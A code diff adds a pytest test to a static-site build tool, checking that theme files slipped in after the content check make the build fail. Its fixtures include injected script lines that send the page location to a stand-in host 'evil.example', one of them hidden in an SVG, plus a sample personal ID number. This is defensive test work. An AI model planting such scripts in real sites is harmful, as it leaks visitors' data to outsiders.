@@ -692,6 +692,36 @@ def test_a_theme_script_replaced_after_the_check_is_not_published(tmp_path):
     assert hashes(site) == before
 
 
+@pytest.mark.parametrize(("added", "text"), [
+    ("assets/agency/agency.css", "body::after { content: '联系人身份证 110101199003071234'; }\n"),
+    ("assets/track.js", "fetch('https://evil.example/?'+location)\n"),
+    ("名单.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('https://evil.example/')</script></svg>\n"),
+    ("partials/nav.html", "<p>联系人身份证 110101199003071234</p>\n"),
+])
+def test_a_theme_file_added_after_the_check_is_not_published(tmp_path, added, text):
+    """The check judges the theme folder's files and scans its templates, then MkDocs collects and renders them: one
+    added meanwhile (a stylesheet, a page of its own, a partial Material includes in every page) went online
+    unjudged, as only an edited or replaced one was refused. Now the build fails, naming it, and site/ stays as it was."""
+    from gongkai.commands.build import build_site
+
+    fixture, theme = _with_own_theme(tmp_path)
+    site = fixture.root / "site"
+    build(fixture, site)
+    before = hashes(site)
+    target = theme / added
+
+    def add(line: str) -> None:
+        if line.startswith("读取并检查内容"):
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_text(text, encoding="utf-8")
+
+    with pytest.raises(BuildFailed, match=f"{target.name}.*在检查之后"):
+        build_site(fixture.root, site, today=fixture.today, echo=add)
+    assert hashes(site) == before
+    target.unlink()
+    build(fixture, site)  # judged again without it: built
+
+
 @pytest.mark.parametrize("linked", ["site", "out"])
 def test_a_committed_link_never_sends_the_site_elsewhere(tmp_path, linked):
     """A `site` link committed to the repository (or a link on the way to --site-dir) made the build replace the
